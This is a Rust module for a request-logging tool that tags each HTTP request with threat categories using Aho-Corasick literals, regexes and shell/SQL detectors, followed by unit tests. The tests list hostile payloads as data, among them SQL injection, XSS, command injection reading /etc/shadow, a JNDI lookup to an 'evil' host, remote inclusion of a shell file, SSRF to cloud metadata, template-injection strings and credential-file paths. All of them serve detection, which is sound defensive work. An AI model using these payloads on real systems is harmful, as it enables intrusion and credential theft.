//! Security: threat tagging of every request at ingest, and behavioural detection over the dataset.
//!
//! The [`Tagger`] runs once per row inside the ingest workers. The request target, Referer and
//! User-Agent are normalised ([`normalize`]), then an Aho-Corasick automaton per field, holding the
//! literals of the signatures of `config/signatures.yaml` that look at that field, finds the
//! candidate signatures in a single pass; only those run their confirming regex (and a detector
//! for what a regex cannot read: [`shell`] reads a value as a shell would, [`sqltokens`]
//! fingerprints its SQL tokens). A query parameter written as a file-system path is also judged
//! by the path's signatures, as if the file were requested: when they call it sensitive, the
//! request includes that file (`traversal`). The result is the
//! row's `threats` bit set (one bit per category; 0 for the vast majority of rows, which cost one
//! automaton pass). [`behaviour`] finds
//! what single requests cannot show — brute force, probing, floods — with windowed SQL over the
//! stored rows.

pub mod behaviour;
pub mod normalize;
pub mod shell;
pub mod sqltokens;

use std::path::Path;

use std::sync::atomic::{AtomicU64, Ordering};

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, MatchKind};
use serde::{Deserialize, Serialize};
use xxhash_rust::xxh3::xxh3_64_with_seed;

use crate::error::{Error, Result};
use normalize::Field;

/// The shipped `config/signatures.yaml`, used when no file is found.
pub const BUILTIN_SIGNATURES: &str = include_str!("../../../config/signatures.yaml");
/// Where the signatures are looked for when the config names none.
pub const DEFAULT_SIGNATURES_PATH: &str = "config/signatures.yaml";

/// A threat category: one bit of the `threats` column.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct Category {
    /// Bit number (0-31).
    pub bit: u32,
    /// Name used in reports and SQL.
    pub name: String,
    /// What it means.
    pub description: String,
}

/// One signature as written in the file.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct SignatureSpec {
    /// Unique id.
    pub id: String,
    /// Category name.
    pub category: String,
    /// 1 (default) or higher: active when `security.paranoia` reaches it.
    #[serde(default = "one")]
    pub paranoia: u8,
    /// Fields it looks at: target, path, query, referer, user_agent.
    #[serde(default)]
    pub fields: Vec<String>,
    /// Literals that must occur (any of them), matched case-insensitively.
    pub literals: Vec<String>,
    /// Regex that must match when a literal occurs (none: the literal suffices).
    #[serde(default)]
    pub confirm: Option<String>,
    /// Regex that, when it matches, cancels the signature (an exception such as `/.well-known/`).
    #[serde(default)]
    pub unless: Option<String>,
    /// A detector that must also agree, for what a regex cannot read: `shell` (a command where a
    /// shell would start one; see [`shell`]) or `sql_tokens` (a value whose SQL tokens fingerprint
    /// an injection; see [`sqltokens`]).
    #[serde(default)]
    pub detector: Option<String>,
    /// What it detects.
    #[serde(default)]
    pub description: String,
}

fn one() -> u8 {
    1
}

/// The signatures file.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct SignatureFile {
    /// Categories and their bits.
    pub categories: Vec<Category>,
    /// Signatures.
    pub signatures: Vec<SignatureSpec>,
}

/// `security:` section of the configuration.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, default)]
pub struct SecurityConfig {
    /// Signatures file (default: config/signatures.yaml, else built-in).
    pub signatures: Option<std::path::PathBuf>,
    /// Paranoia level: 1 tags only unambiguous attacks, 2 (and up) also likelier false positives;
    /// 0 turns tagging off (every row gets `threats` 0).
    pub paranoia: u8,
    /// Behavioural rules.
    pub behaviour: behaviour::BehaviourConfig,
}

impl Default for SecurityConfig {
    fn default() -> Self {
        SecurityConfig {
            signatures: None,
            paranoia: 1,
            behaviour: behaviour::BehaviourConfig::default(),
        }
    }
}

const F_PATH: u8 = 1;
const F_QUERY: u8 = 2;
const F_REFERER: u8 = 4;
const F_UA: u8 = 8;

#[derive(Debug)]
struct Sig {
    bit: u32,
    fields: u8,
    confirm: Option<regex::bytes::Regex>,
    unless: Option<regex::bytes::Regex>,
    detector: Option<fn(&[u8]) -> bool>,
}

/// One field's literal automaton.
#[derive(Debug)]
struct FieldLiterals {
    ac: AhoCorasick,
    /// For each literal, the signatures (that look at this field) it belongs to.
    owners: Vec<Vec<usize>>,
}

impl FieldLiterals {
    /// The literals of the signatures among `owners` that look at field `bit`.
    fn build(
        literals: &[Vec<u8>],
        owners: &[Vec<usize>],
        sigs: &[Sig],
        bit: u8,
    ) -> std::result::Result<FieldLiterals, aho_corasick::BuildError> {
        let (mut lits, mut own) = (Vec::new(), Vec::new());
        for (lit, who) in literals.iter().zip(owners) {
            let who: Vec<usize> = who
                .iter()
                .copied()
                .filter(|&i| sigs[i].fields & bit != 0)
                .collect();
            if !who.is_empty() {
                lits.push(lit);
                own.push(who);
            }
        }
        let ac = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .kind(Some(AhoCorasickKind::DFA))
            .build(lits)?;
        Ok(FieldLiterals { ac, owners: own })
    }
}

/// Compiled signatures; see the module docs.
#[derive(Debug)]
pub struct Tagger {
    /// Distinguishes taggers, so a scratch's cache never serves another tagger's results.
    id: u64,
    /// The literals of each field (path, query, Referer, User-Agent): a field's automaton holds only
    /// the literals of signatures that look at it, so a URL in a Referer does not wake the
    /// query-only signatures' `//` and `http:`.
    fields: [FieldLiterals; 4],
    sigs: Vec<Sig>,
    categories: Vec<Category>,
    /// The bits of `sensitive_file` and `traversal`, when the signatures have both: a query
    /// parameter holding a file-system path that the path signatures call sensitive is an
    /// inclusion of that file, tagged `traversal`.
    inclusion: Option<(u32, u32)>,
}

/// Per-worker buffers of a [`Tagger`].
#[derive(Debug, Default)]
pub struct TagScratch {
    text: Vec<u8>,
    tmp: Vec<u8>,
    /// The normalised query while its values are judged as paths.
    query: Vec<u8>,
    /// A path normalised without folding, for the detectors.
    unfolded: Vec<u8>,
    candidates: Vec<usize>,
    /// The tagger `cache` belongs to.
    tagger: u64,
    /// Direct-mapped cache per field, one word per slot: the high half of the value's xxh3 (its
    /// check) over its bits. User agents, referers and paths repeat (a site has few thousand of
    /// each), so most rows skip the automaton.
    cache: Vec<u64>,
}

/// Cache slots per field (a power of two): 512 KiB per worker, half the processor's L2 cache here.
/// On realistic traffic, 4,096 slots took 5-8% longer (`cargo bench --bench ingest -- tagging`),
/// 65,536 were no faster; with slots of 16 bytes (the whole hash) instead of 8, tagging 1,000,000
/// rows of the realistic profile alone took 5-10% longer.
const CACHE_SLOTS: usize = 16384;

impl SignatureFile {
    /// Loads `path`, else `config/signatures.yaml`, else the built-in signatures.
    pub fn load(path: Option<&Path>) -> Result<SignatureFile> {
        let default = Path::new(DEFAULT_SIGNATURES_PATH);
        let (text, origin) = match path.or(default.is_file().then_some(default)) {
            Some(p) => (
                std::fs::read_to_string(p).map_err(|e| Error::io("cannot read", p, e))?,
                p.to_path_buf(),
            ),
            None => (
                BUILTIN_SIGNATURES.to_string(),
                "<built-in signatures.yaml>".into(),
            ),
        };
        SignatureFile::parse(&text, &origin)
    }

    /// Parses signatures text; `origin` names it in errors.
    pub fn parse(text: &str, origin: &Path) -> Result<SignatureFile> {
        serde_norway::from_str(text).map_err(|e| Error::Config {
            path: origin.to_path_buf(),
            message: e.to_string(),
        })
    }
}

impl Tagger {
    /// Compiles the signatures active at `paranoia`.
    pub fn new(file: &SignatureFile, paranoia: u8) -> Result<Tagger> {
        let bad = |m: String| Error::Config {
            path: "signatures".into(),
            message: m,
        };
        let mut literals: Vec<Vec<u8>> = Vec::new();
        let mut owners: Vec<Vec<usize>> = Vec::new();
        let mut sigs = Vec::new();
        for c in &file.categories {
            if c.bit > 31 {
                return Err(bad(format!(
                    "category {}: bit {} is above 31",
                    c.name, c.bit
                )));
            }
        }
        for spec in file.signatures.iter().filter(|s| s.paranoia <= paranoia) {
            let cat = file
                .categories
                .iter()
                .find(|c| c.name == spec.category)
                .ok_or_else(|| {
                    bad(format!(
                        "signature {}: unknown category {}",
                        spec.id, spec.category
                    ))
                })?;
            if spec.literals.is_empty() {
                return Err(bad(format!(
                    "signature {}: give at least one literal",
                    spec.id
                )));
            }
            let mut fields = 0u8;
            let names: Vec<&str> = if spec.fields.is_empty() {
                vec!["target", "referer", "user_agent"]
            } else {
                spec.fields.iter().map(String::as_str).collect()
            };
            for f in names {
                fields |= match f {
                    "target" => F_PATH | F_QUERY,
                    "path" => F_PATH,
                    "query" => F_QUERY,
                    "referer" => F_REFERER,
                    "user_agent" => F_UA,
                    other => {
                        return Err(bad(format!("signature {}: unknown field {other}", spec.id)));
                    }
                };
            }
            let compile =
                |re: &Option<String>, what: &str| -> Result<Option<regex::bytes::Regex>> {
                    re.as_ref()
                        .map(|re| {
                            regex::bytes::RegexBuilder::new(re)
                                .case_insensitive(true)
                                .unicode(false)
                                .size_limit(64 << 20)
                                .build()
                                .map_err(|e| {
                                    bad(format!("signature {}: invalid {what} regex: {e}", spec.id))
                                })
                        })
                        .transpose()
                };
            let confirm = compile(&spec.confirm, "confirm")?;
            let unless = compile(&spec.unless, "unless")?;
            let detector = match spec.detector.as_deref() {
                None => None,
                Some("shell") => Some(shell::injected as fn(&[u8]) -> bool),
                Some("sql_tokens") => Some(sqltokens::injected as fn(&[u8]) -> bool),
                Some(other) => {
                    return Err(bad(format!(
                        "signature {}: unknown detector {other} (known: shell, sql_tokens)",
                        spec.id
                    )));
                }
            };
            let idx = sigs.len();
            sigs.push(Sig {
                bit: 1 << cat.bit,
                fields,
                confirm,
                unless,
                detector,
            });
            for lit in &spec.literals {
                let lit = lit.to_ascii_lowercase().into_bytes();
                match literals.iter().position(|l| *l == lit) {
                    Some(i) => owners[i].push(idx),
                    None => {
                        literals.push(lit);
                        owners.push(vec![idx]);
                    }
                }
            }
        }
        let field = |bit| {
            FieldLiterals::build(&literals, &owners, &sigs, bit)
                .map_err(|e| bad(format!("cannot build the literal automaton: {e}")))
        };
        let fields = [
            field(F_PATH)?,
            field(F_QUERY)?,
            field(F_REFERER)?,
            field(F_UA)?,
        ];
        let bit_of = |name: &str| {
            file.categories
                .iter()
                .find(|c| c.name == name)
                .map(|c| 1u32 << c.bit)
        };
        let inclusion = bit_of("sensitive_file").zip(bit_of("traversal"));
        static NEXT_ID: AtomicU64 = AtomicU64::new(1);
        Ok(Tagger {
            id: NEXT_ID.fetch_add(1, Ordering::Relaxed),
            fields,
            sigs,
            categories: file.categories.clone(),
            inclusion,
        })
    }

    /// The categories, for the catalog and reports.
    pub fn categories(&self) -> &[Category] {
        &self.categories
    }

    fn scan(&self, raw: &[u8], field: Field, mask: u8, s: &mut TagScratch) -> u32 {
        let mut bits = 0u32;
        let normalised = field == Field::Query || normalize::needs_work(raw, field);
        let text: &[u8] = if normalised {
            let mut text = std::mem::take(&mut s.text);
            normalize::normalize(raw, field, &mut text, &mut s.tmp);
            if field == Field::Query {
                // Query signatures may anchor on the `?` that starts the query.
                text.insert(0, b'?');
            }
            s.text = text;
            &s.text
        } else {
            raw
        };
        s.candidates.clear();
        let literals = &self.fields[mask.trailing_zeros() as usize];
        for m in literals.ac.find_overlapping_iter(text) {
            for &sig in &literals.owners[m.pattern().as_usize()] {
                if bits & self.sigs[sig].bit == 0 && !s.candidates.contains(&sig) {
                    s.candidates.push(sig);
                }
            }
        }
        // A detector reads a path as the program behind it gets it: decoded, but with its
        // backslashes (a shell's escapes, a written `\n`) and slash runs as sent.
        let mut unfolded = false;
        for &sig in &s.candidates {
            let sg = &self.sigs[sig];
            if bits & sg.bit != 0 {
                continue;
            }
            let detected = |detect: fn(&[u8]) -> bool| {
                if field != Field::Path || !normalised {
                    return detect(text);
                }
                if !unfolded {
                    normalize::normalize(raw, Field::Header, &mut s.unfolded, &mut s.tmp);
                    unfolded = true;
                }
                detect(&s.unfolded)
            };
            if sg.confirm.as_ref().is_none_or(|re| re.is_match(text))
                && !sg.unless.as_ref().is_some_and(|re| re.is_match(text))
                && sg.detector.is_none_or(detected)
            {
                bits |= sg.bit;
            }
        }
        if field == Field::Query
            && let Some((sensitive, traversal)) = self.inclusion
            && bits & traversal == 0
            && self.includes_sensitive_file(sensitive, s)
        {
            bits |= traversal;
        }
        bits
    }

    /// Whether a parameter of the query just normalised into `s.text` holds a file-system path
    /// (`/…`, `\…`, `~/…`, `./…`, `C:\…`) that the path signatures, reading it as a request for
    /// that file, call `sensitive` (`file=/home/u/.aws/credentials`, `inc=/config.prod.yml`):
    /// the file an inclusion would read, judged by the same patterns as a direct request, cut
    /// where an inclusion stops reading (a NUL) or a URL's path ends (`?`, `#`).
    fn includes_sensitive_file(&self, sensitive: u32, s: &mut TagScratch) -> bool {
        std::mem::swap(&mut s.text, &mut s.query);
        let query = std::mem::take(&mut s.query);
        let found = query
            .split(|&c| c == b'&' || c == b'?')
            .filter_map(|param| {
                let eq = param.iter().position(|&c| c == b'=')?;
                let value = param[eq + 1..].trim_ascii_start();
                let end = value
                    .iter()
                    .position(|&c| c == 0 || c == b'#')
                    .unwrap_or(value.len());
                Some(value[..end].trim_ascii_end())
            })
            .filter(|value| file_path(value))
            .any(|value| self.scan(value, Field::Path, F_PATH, s) & sensitive != 0);
        s.query = query;
        found
    }

    /// The threat bits of a request.
    pub fn tag(
        &self,
        path: Option<&[u8]>,
        query: Option<&[u8]>,
        referer: Option<&[u8]>,
        user_agent: Option<&[u8]>,
        scratch: &mut TagScratch,
    ) -> u32 {
        let mut bits = 0;
        if self.sigs.is_empty() {
            return bits;
        }
        if scratch.tagger != self.id {
            scratch.tagger = self.id;
            scratch.cache.clear();
            scratch.cache.resize(4 * CACHE_SLOTS, 0);
        }
        let fields = [
            (path, Field::Path, F_PATH),
            (query, Field::Query, F_QUERY),
            (referer, Field::Header, F_REFERER),
            (user_agent, Field::Header, F_UA),
        ];
        // Every field's slot is read before any value is scanned, so that the four cache misses
        // of a row overlap instead of waiting for one another. The slot (the hash's low 14 bits)
        // and the check (31 of its high bits) stand for the value: when the slot holds another
        // value, odds of 2^-31 that its check is equal and it gives its bits (a wrong tag needs
        // one of the two values to be tagged, about one in a hundred: under one row in 10^11).
        // Checks are odd; 0 marks an absent field and an empty slot.
        let slots = std::array::from_fn::<_, 4, _>(|i| {
            match fields[i].0.filter(|v| !v.is_empty() && *v != b"-") {
                Some(v) => {
                    let h = xxh3_64_with_seed(v, i as u64);
                    (
                        (h >> 32) as u32 | 1,
                        i * CACHE_SLOTS + (h as usize & (CACHE_SLOTS - 1)),
                    )
                }
                None => (0, 0),
            }
        });
        let cached = slots.map(|(check, slot)| if check == 0 { 0 } else { scratch.cache[slot] });
        for (i, (value, field, mask)) in fields.into_iter().enumerate() {
            let (check, slot) = slots[i];
            let Some(v) = value.filter(|_| check != 0) else {
                continue;
            };
            bits |= if (cached[i] >> 32) as u32 == check {
                cached[i] as u32
            } else {
                let found = self.scan(v, field, mask, scratch);
                scratch.cache[slot] = u64::from(check) << 32 | u64::from(found);
                found
            };
        }
        bits
    }

    /// Names of the categories set in `bits`.
    pub fn names(&self, bits: u32) -> Vec<&str> {
        self.categories
            .iter()
            .filter(|c| bits & (1 << c.bit) != 0)
            .map(|c| c.name.as_str())
            .collect()
    }
}

/// Whether a parameter's value is written as a file-system path: absolute (`/x`, not the
/// protocol-relative `//host`), from the home directory or the current one, or on a Windows
/// drive or share.
fn file_path(value: &[u8]) -> bool {
    match value {
        [b'/', b'/', ..] => false,
        [b'/' | b'\\', c, ..] => *c != b' ',
        [b'~' | b'.', b'/' | b'\\', ..] => true,
        [d, b':', b'/' | b'\\', ..] => d.is_ascii_alphabetic(),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tagger(p: u8) -> Tagger {
        let file: SignatureFile = serde_norway::from_str(BUILTIN_SIGNATURES).unwrap();
        Tagger::new(&file, p).unwrap()
    }

    fn tags(t: &Tagger, path: &str, query: Option<&str>, ua: &str) -> Vec<String> {
        let mut s = TagScratch::default();
        let bits = t.tag(
            Some(path.as_bytes()),
            query.map(str::as_bytes),
            None,
            Some(ua.as_bytes()),
            &mut s,
        );
        t.names(bits).into_iter().map(str::to_string).collect()
    }

    #[test]
    fn attacks_are_tagged_by_category() {
        let t = tagger(1);
        assert_eq!(
            tags(
                &t,
                "/item",
                Some("id=1%27%20UNION%20SELECT%20password%20FROM%20users--"),
                "ua"
            ),
            ["sqli"]
        );
        assert_eq!(
            tags(
                &t,
                "/search",
                Some("q=%3Cscript%3Ealert(1)%3C/script%3E"),
                "ua"
            ),
            ["xss"]
        );
        assert_eq!(
            tags(&t, "/download", Some("file=../../../../etc/passwd"), "ua"),
            ["traversal"]
        );
        for query in [
            "file=/xampp/apache/conf/httpd.conf",
            "inc=/home/site/.htpasswd",
            "f=C:%5CProgram+Files%5CPHP%5Cphp.ini",
            "page=admin/.htaccess",
        ] {
            assert_eq!(tags(&t, "/view.php", Some(query), "ua"), ["traversal"]);
        }
        assert_eq!(
            tags(&t, "/ping", Some("host=127.0.0.1;cat+/etc/shadow"), "ua"),
            ["traversal", "cmdi"]
        );
        assert_eq!(
            tags(&t, "/", None, "sqlmap/1.7.2#stable (https://sqlmap.org)"),
            ["scanner"]
        );
        assert_eq!(tags(&t, "/.env", None, "curl/8"), ["sensitive_file"]);
        assert_eq!(tags(&t, "/", None, "${jndi:ldap://evil/a}"), ["java"]);
        assert_eq!(
            tags(
                &t,
                "/index.php",
                Some("page=http://203.0.113.5/shell.txt?"),
                "ua"
            ),
            ["rfi"]
        );
        assert_eq!(
            tags(
                &t,
                "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                None,
                "ua"
            ),
            ["exploit"]
        );
        assert_eq!(tags(&t, "/index.php/x.js.map", None, "ua"), ["exploit"]);
        assert_eq!(
            tags(&t, "/wp-content/uploads/wso.php", None, "ua"),
            ["exploit"]
        );
    }

    #[test]
    fn a_parameter_naming_a_sensitive_file_is_an_inclusion() {
        let t = tagger(1);
        for q in [
            "file=/home/deploy/.aws/credentials",
            "inc=%2Fconfig.prod.yml",
            "page=~/.bash_history",
            "f=C:%5Capp%5Cconfig.dev.json",
            "doc=/srv/app/config.local.php%00.jpg",
        ] {
            assert!(tagged(&t, "/view", q, "traversal"), "{q}");
        }
        for q in [
            "next=/account/settings",
            "return=/.well-known/openid-configuration",
            "img=/static/logo.png",
            "u=//cdn.example/config.json",
            "q=config.yml",
        ] {
            assert!(!tagged(&t, "/view", q, "traversal"), "{q}");
        }
    }

    #[test]
    fn a_path_reaches_the_shell_reader_with_its_backslashes() {
        let t = tagger(1);
        assert!(tagged(&t, "/files/%7Cc%5Cat%20%5Cn", "", "cmdi"));
        assert!(tagged(&t, "/cgi-bin/x;i%5Cd%5Cn", "", "cmdi"));
    }

    /// Whether `name` is among the tags of the request.
    fn tagged(t: &Tagger, path: &str, query: &str, name: &str) -> bool {
        tags(t, path, Some(query), "ua").iter().any(|n| n == name)
    }

    #[test]
    fn forgery_redirects_and_templates_are_tagged() {
        let t = tagger(1);
        for q in [
            "url=http://169.254.169.254/latest/meta-data/",
            "url=http%3A%2F%2F0x7f000001%2Fadmin",
            "u=http://user@0177.0.0.1:8080/",
            "feed=http://[::ffff:127.0.0.1]/",
            "src=gopher://localhost:6379/_INFO",
            "img=http://127.0.0.1.nip.io/",
        ] {
            assert!(tagged(&t, "/fetch", q, "ssrf"), "{q}");
        }
        assert!(tagged(&t, "/proxy/http:/localhost:8080/admin", "", "ssrf"));
        assert!(!tagged(&t, "/fetch", "url=http://10.0.0.5/", "ssrf"));
        assert!(tagged(&tagger(2), "/fetch", "url=http://10.0.0.5/", "ssrf"));
        for q in [
            "next=//evil.example/",
            "return_to=https://evil.example/",
            "redirect=/%5Cevil.example",
            "url=https:evil.example",
            "next=java%0ascript:alert(1)",
            "redirect_uri=https://trusted.example@evil.example/",
        ] {
            assert!(tagged(&t, "/login", q, "open_redirect"), "{q}");
        }
        for q in [
            "name={{7*7}}",
            "name={{''.__class__.__mro__}}",
            "x=${T(java.lang.Runtime).getRuntime().exec('id')}",
            "x=<%= system('id') %>",
            "x={%25 import os %25}",
            "x={php}echo 1;{/php}",
        ] {
            assert!(tagged(&t, "/hello", q, "ssti"), "{q}");
        }
    }

    #[test]
    fn ordinary_requests_are_not() {
        let t = tagger(1);
        for (path, query, ua) in [
            (
                "/products/42",
                Some("color=red&size=m&sort=price"),
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
            ),
            (
                "/search",
                Some("q=cats+and+dogs&page=2"),
                "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X)",
            ),
            ("/blog/select-the-right-union", None, "curl/8.4.0"),
            (
                "/static/app.js",
                Some("v=1.2.3"),
                "Googlebot/2.1 (+http://www.google.com/bot.html)",
            ),
            (
                "/login",
                Some("next=/account&ref=email"),
                "python-requests/2.31",
            ),
            (
                "/list",
                Some("hl=id&sort=id&order=asc"),
                "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119",
            ),
            ("/index.php/blog/2024/01/hello-world", None, "Ruby"),
            (
                "/oauth/callback",
                Some("redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&state=x"),
                "ua",
            ),
            ("/share", Some("url=https://news.example.com/a?b=1"), "ua"),
            ("/products/{{product.id}}", Some("t={{ title }}"), "ua"),
            ("/api/proxy", Some("to=10.1.2.3&from=intranet"), "ua"),
            (
                "/docs",
                Some("file=/guides/install.html&spec=/openapi.yaml"),
                "ua",
            ),
            ("/feeds", Some("src=/rss.xml"), "ua"),
            ("/api/v1/auth/token", Some("grant=code"), "ua"),
            ("/docs/deploy.html", Some("x=%25x"), "ua"),
            ("/processes", Some("view=process.start-date"), "ua"),
        ] {
            assert!(
                tags(&t, path, query, ua).is_empty(),
                "{path}?{query:?} {ua}"
            );
        }
    }

    #[test]
    fn commands_run_through_a_language_process_interface() {
        let t = tagger(1);
        for query in [
            "x=__import__(%27os%27).popen(%27id%27).read()",
            "c=require(%27child_process%27).exec(%27id%27)",
            "e=subprocess.check_output([%27ls%27])",
            "r=IO.popen(%27id%27).read",
            "p=qx{id}",
            "a=System.Diagnostics.Process.Start(%22cmd.exe%22)",
            "v=CreateObject(%22WScript.Shell%22).Exec(%22cmd%22)",
        ] {
            let found = tags(&t, "/run", Some(query), "ua");
            assert!(found.contains(&"cmdi".to_string()), "{query}: {found:?}");
        }
    }

    #[test]
    fn credential_configs_and_kernel_files_are_sensitive() {
        let t = tagger(1);
        for path in [
            "/aws.yml",
            "/config/aws-key.yml",
            "/sftp.json",
            "/auth.json",
        ] {
            assert_eq!(tags(&t, path, None, "ua"), ["sensitive_file"], "{path}");
        }
        for query in [
            "f=/proc/mounts",
            "f=/app/proc/sched_debug",
            "f=sys/hypervisor/uuid",
        ] {
            assert_eq!(
                tags(&t, "/view", Some(query), "ua"),
                ["traversal"],
                "{query}"
            );
        }
    }

    #[test]
    fn paranoia_two_adds_noisier_signatures() {
        assert!(tags(&tagger(1), "/x", Some("url=https://example.com/"), "ua").is_empty());
        assert_eq!(
            tags(&tagger(2), "/x", Some("url=https://example.com/"), "ua"),
            ["rfi"]
        );
        assert!(
            tags(
                &tagger(0),
                "/x",
                Some("id=1%27%20or%20%271%27=%271"),
                "sqlmap/1.7"
            )
            .is_empty()
        );
        assert_eq!(
            tags(&tagger(2), "/", None, "ansible-vault decrypt secret"),
            ["cmdi"]
        );
        assert_eq!(
            tags(&tagger(2), "/", Some("x=c$@at+/et$@c/pas$@swd"), "ua"),
            ["cmdi"]
        );
        let chef =
            "Chef Client/10.18.2 (ruby-1.9.3-p327; ohai-6.16.0; x86_64-linux; +http://opscode.com)";
        assert!(tags(&tagger(2), "/files/a.jar", None, chef).is_empty());
    }
}
